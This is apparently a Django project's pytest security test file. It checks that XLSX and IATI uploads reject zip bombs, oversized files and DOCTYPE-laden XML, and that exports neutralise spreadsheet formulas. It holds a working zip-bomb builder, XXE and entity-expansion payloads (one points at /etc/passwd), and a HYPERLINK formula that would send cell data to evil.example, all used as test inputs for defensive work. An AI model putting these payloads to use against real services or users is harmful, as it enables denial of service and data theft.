"""Files as an attacker sends them: zip bombs, oversized and DOCTYPE-laden XML, formula text;
and uploads that wait in storage, not the session, between preview and confirmation."""

import csv
import io
import time
import zipfile

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from partnership.anp import spreadsheets
from partnership.background.models import Job
from partnership.background.storage import prepared_files
from partnership.core import files
from partnership.core.exceptions import ApplicationError
from partnership.core.models import User
from partnership.core.services import api_token_create
from partnership.site.management.commands.export import _write
from tests.partnership.anp.test_spreadsheets import GOOD, HEADER, workbook
from tests.partnership.background.jobs import run_queued

pytestmark = pytest.mark.django_db

ROW = "<row>" + "".join(f'<c t="inlineStr"><is><t>x{i}</t></is></c>' for i in range(13)) + "</row>"

BLANK_ROW = '<row><c t="inlineStr"><is><t> </t></is></c></row>'


def bomb(*, dimension: str | None, unpacked_mb: int, header: bool = False, row: str = ROW) -> bytes:
    """A real workbook whose first sheet is replaced by `unpacked_mb` of rows that deflate to
    almost nothing, declaring `dimension` (the issue's bomb said A1:M10000002) or none."""
    book = Workbook()
    source = io.BytesIO()
    book.save(source)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed,
    ):
        for info in original.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                packed.writestr(info, original.read(info))
                continue
            with packed.open("xl/worksheets/sheet1.xml", "w") as sheet:
                sheet.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                )
                if dimension:
                    sheet.write(f'<dimension ref="{dimension}"/>'.encode())
                sheet.write(b"<sheetData>")
                if header:
                    cells = "".join(
                        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                        for i, h in enumerate(HEADER)
                    )
                    sheet.write(f"<row>{cells}</row>".encode())
                chunk = (row * 2000).encode()
                for _ in range(unpacked_mb * 1024 * 1024 // len(chunk) + 1):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def bearer(username: str) -> dict[str, str]:
    _token, raw = api_token_create(user=User.objects.get(username=username), name="test")
    return {"HTTP_AUTHORIZATION": f"Bearer {raw}"}


@pytest.mark.serial  # "in under a second": not beside other workers
def test_a_zip_bomb_is_refused_in_under_a_second_without_unpacking() -> None:
    data = bomb(dimension="A1:M10000002", unpacked_mb=120)
    assert len(data) < 2 * 1024 * 1024

    started = time.perf_counter()
    parsed = spreadsheets.parse(data)
    elapsed = time.perf_counter() - started

    assert elapsed < 1.0
    assert parsed.rows == []
    assert "unpacks to more than 50 MB" in parsed.errors[0].message


def test_a_small_workbook_declaring_ten_million_rows_is_refused_before_any_row_is_read() -> None:
    started = time.perf_counter()
    parsed = spreadsheets.parse(bomb(dimension="A1:M10000002", unpacked_mb=1))

    assert time.perf_counter() - started < 1.0
    assert "has more than 20000 rows" in parsed.errors[0].message


def test_rows_beyond_the_limit_are_refused_even_when_the_sheet_does_not_say_so(
    settings: object,
) -> None:
    settings.XLSX_MAX_ROWS = 100  # type: ignore[attr-defined]
    # No extent declared, and blank rows: nothing to report on each, but still work to read.
    blank = bomb(dimension=None, unpacked_mb=1, header=True, row=BLANK_ROW)
    parsed = spreadsheets.parse(blank)

    assert parsed.rows == []
    assert "has more than 100 rows" in parsed.errors[-1].message


def test_the_anp_import_refuses_a_bomb_over_the_api_quickly() -> None:
    client = Client()
    data = bomb(dimension="A1:M10000002", unpacked_mb=120)
    started = time.perf_counter()
    response = client.post(
        "/api/anp/2035/import",
        {"file": io.BytesIO(data)},
        **bearer("ua-coordinator"),
    )
    assert time.perf_counter() - started < 1.0
    assert response.status_code == 413
    assert "unpacks to more than" in response.json()["message"]
    assert not Job.objects.exists()  # refused before it was kept


def test_who_may_not_import_gets_403_before_the_file_is_opened() -> None:
    client = Client()
    not_a_workbook = io.BytesIO(b"PK\x03\x04" + b"\x00" * 1000)
    response = client.post(
        "/api/anp/2035/import", {"file": not_a_workbook}, **bearer("ua-reporter")
    )
    assert response.status_code == 403

    iati = client.post(
        "/api/trust-funds/pfp-demilitarization/iati",
        {"file": io.BytesIO(b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')},
        **bearer("ca-donor"),
    )
    assert iati.status_code == 403


def test_a_file_over_its_kinds_limit_is_refused_by_its_size(settings: object) -> None:
    settings.UPLOAD_MAX_BYTES = {"xlsx": 1000, "iati": 1000}  # type: ignore[attr-defined]
    client = Client()
    xlsx = client.post(
        "/api/anp/2035/import", {"file": io.BytesIO(workbook(GOOD))}, **bearer("ua-coordinator")
    )
    assert xlsx.status_code == 413
    assert "the most a workbook (XLSX) file may be" in xlsx.json()["message"]
    iati = client.post(
        "/api/trust-funds/pfp-demilitarization/iati",
        {"file": io.BytesIO(b"<iati-activities>" + b" " * 2000 + b"</iati-activities>")},
        **bearer("us-lead"),
    )
    assert iati.status_code == 413
    assert "the most a IATI (XML) file may be" in iati.json()["message"]


def test_a_huge_iati_body_is_refused_before_it_is_read(settings: object) -> None:
    settings.REQUEST_MAX_BYTES = 64 * 1024  # type: ignore[attr-defined]
    client = Client()
    huge = b"<iati-activities>" + b"<x/>" * 100_000 + b"</iati-activities>"
    response = client.post(
        "/api/trust-funds/pfp-demilitarization/iati",
        {"file": io.BytesIO(huge)},
        **bearer("us-lead"),
    )
    assert response.status_code == 413


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE iati-activities><iati-activities/>',
        b'<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx"><!ENTITY y "&x;&x;&x;&x;&x;&x;">]><a>&y;</a>',
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
    ],
)
def test_any_doctype_is_refused_with_the_reason(document: bytes) -> None:
    with pytest.raises(ApplicationError) as refused:
        files.xml_parse(document)
    assert refused.value.code == "doctype"


def test_a_doctype_in_an_iati_upload_is_a_400_naming_it() -> None:
    response = Client().post(
        "/api/trust-funds/pfp-demilitarization/iati",
        {"file": io.BytesIO(b"<!DOCTYPE iati-activities><iati-activities/>")},
        **bearer("us-lead"),
    )
    assert response.status_code == 400
    assert "DOCTYPE" in response.json()["message"]
    assert not Job.objects.exists()


def test_formula_text_is_exported_as_text_in_xlsx() -> None:
    book = Workbook()
    sheet = book.active
    evil = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1+1", "-2", "@SUM(A1)", "\tx"]
    files.sheet_append(sheet, [*evil, "plain", 5])
    buffer = io.BytesIO()
    book.save(buffer)

    raw = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=True))
    assert list(cells[0]) == [*evil, "plain", 5]


def test_the_measures_export_keeps_an_imported_formula_as_text() -> None:
    from partnership.anp.models import Measure

    measure = Measure.objects.filter(programme__year=2015).first()
    assert measure is not None
    measure.text_en = '=HYPERLINK("http://evil.example","Open")'
    measure.save(update_fields=["text_en"])

    data = spreadsheets.export_measures([measure])

    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw
    cell = load_workbook(io.BytesIO(data)).active.cell(row=2, column=5)
    assert (cell.value, cell.data_type) == (measure.text_en, "s")


def test_formula_text_in_a_csv_export_starts_with_an_apostrophe() -> None:
    out = io.StringIO()
    _write([{"title": "=1+1", "note": "-cmd", "plain": "NUC", "number": -3}], out, "csv")

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows == [{"title": "'=1+1", "note": "'-cmd", "plain": "NUC", "number": "-3"}]


def test_an_import_keeps_the_workbook_in_storage_not_the_session_and_deletes_it_after(
    client: Client,
) -> None:
    client.force_login(User.objects.get(username="ua-coordinator"))
    client.post("/en/anp/import/", {"year": 2036, "file": io.BytesIO(workbook(GOOD))})
    job = Job.objects.get(kind="anp_import", params__year=2036)

    assert "anp_import" not in client.session
    kept = job.upload
    assert prepared_files().exists(kept)
    run_queued()
    job.refresh_from_db()
    assert job.status == "done" and job.upload == ""
    assert not prepared_files().exists(kept)
